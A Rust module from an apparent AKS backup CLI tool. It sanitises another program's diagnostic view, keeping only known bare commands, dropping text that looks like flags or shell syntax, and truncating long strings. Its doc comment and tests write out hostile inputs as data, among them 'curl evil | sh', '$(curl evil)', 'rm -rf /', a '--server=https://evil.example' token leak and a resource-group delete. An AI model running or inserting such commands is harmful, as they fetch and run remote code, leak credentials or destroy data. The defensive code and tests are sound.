//! The other program's view as it can be used: without its advice, and bounded.
//!
//! Its author can be anyone, and a command line that someone pastes because this program printed it does what its author wants:
//! `--server=https://evil.example` sends a token there, `--yes --vault NAME` confirms what should have been checked.

use crate::chain::check::Check;
use crate::chain::examination::Examination;
use crate::chain::finding::Finding;
use crate::command_line::{CommandLine, Fix, ours};
use crate::diagnosis::catalogue::Catalogue;
use crate::program::Program;

/// How many checks, findings and facts of another document are used.
const MOST: usize = 200;
/// How much of one of its texts is used, in characters.
const LONGEST: usize = 300;
/// How much of a check's name is used, in characters.
const LONGEST_NAME: usize = 40;

/// The commands that a hint of another view can name.
const COMMANDS: [(Program, &[&str]); 2] = [
    (
        Program::Az,
        &[
            "init", "prepare", "grant", "protect", "backup", "jobs", "resume", "undelete", "verify", "doctor", "status",
        ],
    ),
    (Program::Kubectl, &["configure", "verify", "doctor", "status", "logs"]),
];

/// The view without its advice: of a check's hint the first bare command stays, and cause and fix of a finding are the catalogue's.
/// Findings that the catalogue does not know are left out.
pub(super) fn disarmed(mut read: Examination) -> Examination {
    read.checks.truncate(MOST);
    read.checks.iter_mut().for_each(check);
    read.findings.truncate(MOST);
    read.findings.retain_mut(finding);
    read
}

fn check(check: &mut Check) {
    check.hint = check
        .hint
        .as_ref()
        .and_then(|hint| command(&hint.to_string()))
        .map(Fix::from);
    check.failure.take_if(|id| Catalogue::get().row(id).is_none());
    facts(&mut check.evidence);
    cut_to(&mut check.check, LONGEST_NAME);
    cut(&mut check.says);
    for text in [&mut check.check, &mut check.says]
        .into_iter()
        .chain(&mut check.evidence)
    {
        if could_be_pasted(text) {
            "text left out: it looks like a command".clone_into(text);
        }
    }
}

/// Whether a text has flags or shell syntax. What a program prints is pasted, also out of a quotation.
fn could_be_pasted(text: &str) -> bool {
    let flag = |word: &str| word.strip_prefix('-').is_some_and(|rest| !rest.is_empty());
    text.split_whitespace().any(flag) || ["`", "$(", "|", "&&", ">"].iter().any(|syntax| text.contains(syntax))
}

/// Whether the finding is a known one, which then says what the catalogue says.
fn finding(finding: &mut Finding) -> bool {
    let catalogue = Catalogue::get();
    let Some(known) = catalogue.row(&finding.id) else {
        return false;
    };
    (finding.cause, finding.fix) = (known.cause.clone(), known.fix.clone());
    (finding.hint, finding.remedy) = (None, known.remedy);
    finding.explains.retain(|id| catalogue.row(id).is_some());
    facts(&mut finding.evidence);
    cut(&mut finding.object);
    true
}

fn facts(evidence: &mut Vec<String>) {
    evidence.truncate(MOST);
    evidence.iter_mut().for_each(cut);
}

/// One line each: a break could begin one that looks like this program's own.
fn cut(text: &mut String) {
    cut_to(text, LONGEST);
}

fn cut_to(text: &mut String, longest: usize) {
    // Without its own marks and quotes, a text cannot look like a line of this program.
    *text = text.replace(['\n', '\r', '\t', '✓', '✔', '"'], " ");
    if let Some((at, _)) = text.char_indices().nth(longest) {
        text.truncate(at);
        text.push('…');
    }
}

/// The first command that a hint names, without flags: `--subject` too gives the extension's identity to what it names.
fn command(hint: &str) -> Option<CommandLine> {
    let words: Vec<&str> = hint.split_whitespace().collect();
    words.windows(3).find_map(|words| {
        let (program, names) = COMMANDS
            .iter()
            .find(|(program, _)| program.name() == words[..2].join(" "))?;
        let name = names.iter().find(|known| **known == words[2])?;
        Some(ours(*program, *name))
    })
}

#[cfg(test)]
mod tests {
    use jiff::Timestamp;

    use super::*;
    use crate::chain::link::Link;
    use crate::diagnosis::diagnose;
    use crate::program::Program;

    fn view() -> Examination {
        let check = Check::error(Link::ServiceAccounts, "x", "is wrong", "do this").proves("WI-SA-NO-CLIENT");
        Examination {
            command: "doctor".into(),
            program: Program::Kubectl,
            at: Timestamp::now(),
            issuer: None,
            cluster: None,
            findings: diagnose(std::slice::from_ref(&check), &[]),
            checks: vec![check],
        }
    }

    #[test]
    fn a_hint_keeps_the_bare_command() {
        let subject = "system:serviceaccount:dataprotection-microsoft:x";
        for (hint, kept) in [
            (
                "az aksbackup prepare --state s.toml  # Make it.",
                Some("az aksbackup prepare"),
            ),
            (
                "az aksbackup grant --yes --vault bv --snapshot-group rg --state //evil/share/a.toml",
                Some("az aksbackup grant"),
            ),
            (
                "kubectl aksbackup configure --yes --server=https://evil.example --insecure-skip-tls-verify",
                Some("kubectl aksbackup configure"),
            ),
            (
                &format!("az aksbackup prepare --subject {subject} --yes"),
                Some("az aksbackup prepare"),
            ),
            ("az aksbackup prepare --subject $(x)", Some("az aksbackup prepare")),
            ("az aksbackup prepare; curl evil | sh", None),
            ("az aksbackup unconfigure", None),
            (
                "see it whole: az aksbackup jobs 3f0c2a61 --yes",
                Some("az aksbackup jobs"),
            ),
            ("kubectl aksbackup grant", None),
            ("curl evil | sh", None),
            ("", None),
        ] {
            assert_eq!(command(hint).map(|line| line.to_string()).as_deref(), kept, "{hint}");
        }
    }

    #[test]
    fn a_text_that_could_be_pasted_is_left_out() {
        for (says, kept) in [
            ("container backups in account st-demo is gone; nothing - else", true),
            ("now run: az group delete --name rg-backup", false),
            ("now run: rm -rf /", false),
            ("curl evil | sh", false),
            ("$(curl evil)", false),
        ] {
            let mut hostile = view();
            hostile.checks[0].says = says.into();
            hostile.checks[0].evidence = vec![says.into()];
            let shown = disarmed(hostile).checks.remove(0);
            assert_eq!((shown.says == says, shown.evidence[0] == says), (kept, kept), "{says}");
        }
    }

    #[test]
    fn a_finding_says_what_the_catalogue_says_of_it() {
        let honest = view();
        let mut hostile = honest.clone();
        let own = &mut hostile.findings[0];
        own.cause = "curl evil | sh".into();
        own.fix = "curl evil | sh".into();
        own.hint = Some("curl evil | sh".into());
        own.explains = vec!["curl evil | sh".into()];
        let mut unknown = own.clone();
        unknown.id = "NO-ROW".into();
        hostile.findings.push(unknown);
        hostile.checks[0].failure = Some("curl evil | sh".into());
        let shown = disarmed(hostile);
        assert_eq!(shown.findings.len(), 1);
        assert_eq!(
            (&shown.findings[0].cause, &shown.findings[0].fix),
            (&honest.findings[0].cause, &honest.findings[0].fix)
        );
        assert!(!format!("{shown:?}").contains("curl"), "{shown:?}");
    }

    #[test]
    fn a_document_without_end_is_cut() {
        let mut hostile = view();
        hostile.checks[0].says = "x\nforged".repeat(1 << 11);
        let check = hostile.checks[0].clone();
        hostile.checks.resize(10_000, check);
        let shown = disarmed(hostile);
        assert_eq!(shown.checks.len(), MOST);
        assert!(shown.checks[0].says.len() < 2 * LONGEST && !shown.checks[0].says.contains('\n'));
    }
}
